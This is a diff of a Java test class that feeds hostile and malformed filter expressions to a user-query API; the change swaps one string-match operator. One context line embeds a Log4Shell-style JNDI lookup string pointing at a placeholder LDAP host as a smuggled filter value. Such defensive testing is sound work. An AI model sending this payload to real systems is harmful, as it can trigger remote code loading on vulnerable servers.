@@ -149,7 +149,7 @@ class HostilePathsTest extends HostileRequestTest {
 		users.filter("population.id eq \"${jndi:ldap://x/a}\"");
 		users.filter("mfaEnabled eq \"true\"");
 		users.filter("mfaEnabled eq 1");
-		users.filter("username co \"a\"");
+		users.filter("username ew \"a\"");
 		users.filter("username eq");
 		users.filter("username eq \"a\" and");
 		users.filter("username eq \"a");
